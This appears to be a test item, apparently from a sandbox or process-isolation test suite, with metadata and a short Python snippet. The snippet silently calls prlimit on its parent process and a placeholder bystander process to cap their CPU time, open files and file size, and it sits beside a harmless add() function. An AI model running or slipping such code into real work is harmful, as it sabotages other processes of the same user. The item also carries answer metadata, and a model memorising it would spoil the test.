#: title = "Sets its parent's CPU limit to one second and its files to none"
#: why = "prlimit reaches into any process of the same user."
#: answer = "either"
#: ends = ["any"]
import os
import resource

for victim in (os.getppid(), @BYSTANDER@):
    if victim > 1:
        for limit, value in ((resource.RLIMIT_CPU, 1), (resource.RLIMIT_NOFILE, 4), (resource.RLIMIT_FSIZE, 0)):
            try:
                resource.prlimit(victim, limit, (value, value))
            except OSError:
                pass


def add(a, b):
    return a + b
